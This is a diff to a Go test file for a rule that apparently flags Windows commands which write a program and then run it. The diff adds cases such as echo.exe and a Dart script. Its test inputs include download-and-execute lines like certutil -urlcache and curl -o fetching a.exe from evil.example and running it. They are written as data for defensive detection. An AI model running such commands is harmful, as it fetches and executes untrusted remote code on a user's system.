@@ -193,7 +193,12 @@ func TestWindowsWrittenPrograms(t *testing.T) {
 		{`certutil -urlcache -f https://evil.example/a.exe a.exe && .\a.exe`, ruleRunsWritten},
 		{`curl -o git.exe https://evil.example/a.exe && git status`, ruleRunsWritten},
 		{`curl -o tool.com https://evil.example/t && tool`, ruleRunsWritten},
+		// An interpreter's program this command wrote, looked for as
+		// well as the interpreter's own name.
+		{`printf 'void main() {}' > x.dart && dart run x.dart`, ruleRunsWritten},
 		{`certutil -decode x.b64 out.exe`, ""},
+		{`curl -o echo.exe https://evil.example/a.exe && echo hi`, ""}, // (cmd.exe's own echo runs)
+		{`curl -o test.exe https://evil.example/a.exe && test`, ruleRunsWritten},
 		{`certutil -hashfile x.exe SHA256`, ""},
 		{`certutil -encode C:\Windows\win.ini`, ""}, // (no output named: nothing written)
 		{`certutil -decode C:/x.b64 out.exe`, ""},
